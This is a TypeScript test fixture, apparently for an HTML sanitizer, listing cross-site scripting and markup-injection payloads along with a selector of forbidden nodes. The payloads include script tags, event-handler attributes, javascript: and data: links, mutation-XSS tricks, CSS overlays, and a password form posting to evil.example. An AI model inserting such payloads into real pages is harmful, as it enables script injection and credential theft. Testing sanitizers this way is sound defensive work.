/** Markup that would run, load, style or collect something if it were inserted as it is. What runs sets `window.hacked`. */
export const MARKUP_ATTACKS: readonly string[] = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<a href="data:text/html,<script>window.hacked=1</script>">x</a>',
  '<a href="javascript:window.hacked=1">x</a>',
  '<a href="&#106;avascript:window.hacked=1">x</a>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<svg><style><img src=x onerror=window.hacked=1></style></svg>',
  '<p style="position:fixed;inset:0">over everything</p>',
  '<p\nstyle = position:fixed onmouseover=window.hacked=1>x</p>',
  '<form action="https://evil.example"><input name=password></form>',
  '<math><mi//xlink:href="data:x,<script>window.hacked=1</script>">',
  '<style>* { display: none }</style>',
  '<details open ontoggle=window.hacked=1><summary>x</summary></details>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
];

/** What of those may never be found among the nodes that were made of them. */
export const FORBIDDEN_NODES = 'script, iframe, svg, math, style, form, input, [style], [onerror], [ontoggle], [onmouseover], [href^="javascript:" i], [href^="data:" i]';
